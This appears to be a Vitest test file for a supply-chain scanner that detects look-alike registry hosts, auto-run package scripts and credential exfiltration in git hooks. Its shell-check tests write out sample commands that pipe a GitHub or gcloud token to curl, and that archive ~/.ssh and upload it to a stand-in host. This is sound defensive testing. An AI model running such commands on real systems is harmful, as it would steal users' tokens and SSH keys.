import { describe, expect, it } from 'vitest';
import { buildFileFindings } from './build-hook-findings.js';
import { imitatedRegistry } from './lookalike-host.js';
import { localImports } from './run-code-findings.js';
import { shellCommandFindings, shellScriptFindings } from './shell-command-findings.js';

describe('imitatedRegistry', () => {
  it('names the registry a look-alike host imitates', () => {
    expect(imitatedRegistry('registry.npmjsjs.org')).toBe('npmjs.org');
    expect(imitatedRegistry('registry.npmjs.org.cdn-cache.example')).toBe('npmjs.org');
    expect(imitatedRegistry('files.pythonhosted.co')).toBe('pythonhosted.org');
    expect(imitatedRegistry('githuh.com')).toBe('github.com');
  });

  it('leaves the registries, mirrors under their own names and enterprise code hosts', () => {
    for (const host of ['registry.npmjs.org', 'registry.yarnpkg.com', 'files.pythonhosted.org', 'registry.npmmirror.com', 'npm.pkg.github.com', 'github.acme-corp.example', 'artifactory.acme.example', 'gitee.com']) expect(imitatedRegistry(host)).toBeNull();
  });
});

describe("package.json scripts a checkout's user runs", () => {
  it('names the files the start, dev, serve and test scripts run, apart from the lifecycle scripts that run by themselves', () => {
    const manifest = JSON.stringify({
      scripts: { start: 'node server/index.js', dev: 'nodemon src/app.js', serve: 'python3 tools/serve.py --port 8000', test: 'node --test && node scripts/check.mjs', build: 'node scripts/build.js', lint: 'node scripts/lint.js', postinstall: 'node scripts/setup.js' },
    });
    const result = buildFileFindings('package.json', manifest, 'package-json');
    expect(result.runs).toEqual(['scripts/setup.js']);
    // `nodemon src/app.js` names no runner the checks know; `node --test && node scripts/check.mjs` runs check.mjs.
    expect(result.userRuns).toEqual(['server/index.js', 'tools/serve.py', 'scripts/check.mjs']);
  });
});

describe('localImports', () => {
  const files = new Set(['tests/conftest.py', 'tests/support/__init__.py', 'tests/support/metrics.py', 'src/pkg/util.py', 'web/setup.ts', 'web/helpers/env.ts']);
  const exists = (p: string) => files.has(p);

  it('resolves Python imports from the root, src/ and the file’s directories, modules of packages included', () => {
    expect(localImports('tests/conftest.py', 'from tests.support import metrics\nimport pkg.util\nimport os\n', exists).sort()).toEqual(['src/pkg/util.py', 'tests/support/__init__.py', 'tests/support/metrics.py']);
    expect(localImports('tests/conftest.py', 'from .support.metrics import x\n', exists)).toEqual(['tests/support/metrics.py']);
  });

  it('resolves relative JavaScript and TypeScript imports, `.js` naming a `.ts` file', () => {
    expect(localImports('web/setup.ts', "import { env } from './helpers/env.js';\nimport x from 'vitest';\n", exists)).toEqual(['web/helpers/env.ts']);
  });
});

describe('shell checks', () => {
  const ctx = { file: 'h', line: 1, where: 'git hook', automatic: true };

  it('reports a token printed by a CLI and piped or substituted into a network tool', () => {
    expect(shellCommandFindings('gh auth token | curl -s --data-binary @- https://x.example/', ctx).map((f) => f.title)).toContain('git hook: sends a token or stored credential over the network');
    expect(shellCommandFindings('curl -H "t: $(gcloud auth print-access-token)" https://x.example/', ctx).map((f) => f.severity)).toContain('CRIT');
    expect(shellCommandFindings('gh auth status && curl -s https://api.github.com/rate_limit', ctx).filter((f) => f.category === 'exfiltration')).toEqual([]);
  });

  it('reports credential files archived on one line and uploaded on another, at CRIT when the script runs by itself and HIGH when run by hand', () => {
    const script = 'tar czf /tmp/b.tgz ~/.ssh\ncurl -F "f=@/tmp/b.tgz" https://x.example/u\n';
    expect(shellScriptFindings(script, ctx)[0]?.severity).toBe('CRIT');
    expect(shellScriptFindings(script, { ...ctx, automatic: false })[0]?.severity).toBe('HIGH');
    expect(shellScriptFindings('tar czf /tmp/b.tgz dist\ncurl -F "f=@/tmp/b.tgz" https://x.example/u\n', ctx)).toEqual([]);
  });
});
